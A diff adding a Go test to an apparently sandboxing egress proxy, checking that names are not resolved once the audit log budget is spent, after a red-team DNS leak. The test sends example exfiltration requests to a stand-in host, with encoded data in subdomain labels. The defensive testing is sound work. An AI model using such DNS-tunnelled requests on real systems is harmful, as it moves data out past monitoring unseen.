@@ -175,3 +175,50 @@ func TestUnauthenticatedLinesSpendNoBudget(t *testing.T) {
 		t.Fatalf("%d strangers' lines (want %d), %d of the session's own (want 1), %d budget lines (want 0); log:\n%s", strangers, unauthBurst, own, budget, data)
 	}
 }
+
+// TestNoLookupWhenUnloggable: once the session's lines cannot be written
+// (its budget spent), a request for an allowed name is refused before the
+// name is looked up, on CONNECT and plain HTTP alike. It was looked up
+// first: the host's resolver, and the domain's DNS servers, were sent
+// names a box chose under an allowed wildcard, with no line naming them
+// (red team, round 8).
+func TestNoLookupWhenUnloggable(t *testing.T) {
+	s, aw, token, _ := newTestServer(t, "*.exfil.test:*", 0)
+	resolver := &asked{}
+	s.cfg.Dialer.Resolver = resolver
+	aw.SetBudget(4 << 10)
+	proxy := serveOnLoopback(t, s, aw)
+	auth := "Proxy-Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("cordon:"+token)) + "\r\n"
+	send := func(req string) int {
+		c, err := net.Dial("tcp", proxy)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer c.Close()
+		c.SetDeadline(time.Now().Add(5 * time.Second))
+		c.Write([]byte(req))
+		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return resp.StatusCode
+	}
+	spent := false
+	for i := 0; i < 200 && !spent; i++ {
+		spent = send("CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n"+auth+"\r\n") != http.StatusForbidden
+	}
+	if aw.Err() != audit.ErrBudgetSpent {
+		t.Fatalf("200 denied requests did not spend a budget of 4 KiB: %v", aw.Err())
+	}
+	for _, req := range []string{
+		"CONNECT onxw2zlunfxw4ltu.exfil.test:443 HTTP/1.1\r\nHost: onxw2zlunfxw4ltu.exfil.test:443\r\n" + auth + "\r\n",
+		"GET http://mfzxg53pojsc4ltm.exfil.test/ HTTP/1.1\r\nHost: mfzxg53pojsc4ltm.exfil.test\r\n" + auth + "\r\n",
+	} {
+		if code := send(req); code != http.StatusServiceUnavailable {
+			t.Errorf("%q, the budget spent: %d, want 503", req, code)
+		}
+	}
+	if len(resolver.names) != 0 {
+		t.Errorf("names looked up with no line to name them: %v", resolver.names)
+	}
+}
